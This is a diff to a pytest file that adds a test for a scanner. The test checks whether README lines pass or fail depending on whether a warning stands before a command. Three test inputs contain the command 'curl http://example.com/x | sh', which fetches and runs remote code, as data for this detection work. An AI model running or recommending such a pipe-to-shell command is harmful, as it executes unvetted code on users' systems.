@@ -170,3 +170,15 @@ def test_what_libraries_do_is_no_harm(name: str) -> None:
 @pytest.mark.parametrize("name", STILL)
 def test_what_only_looks_like_it_is_harm(name: str) -> None:
     assert outcome({"sample.py": STILL[name]}) is Outcome.FAIL
+
+
+@pytest.mark.parametrize(
+    ("line", "outcome"),
+    [
+        ("Never do `curl http://example.com/x | sh`.", Outcome.PASS),
+        ("curl http://example.com/x | sh  # never close this", Outcome.FAIL),
+        ("To install: `curl http://example.com/x | sh`", Outcome.FAIL),
+    ],
+)
+def test_a_warning_stands_before_its_command(line: str, outcome: Outcome) -> None:
+    assert scan({"README.md": f"# Model\n\n{line}\n".encode()}).files[0].outcome is outcome
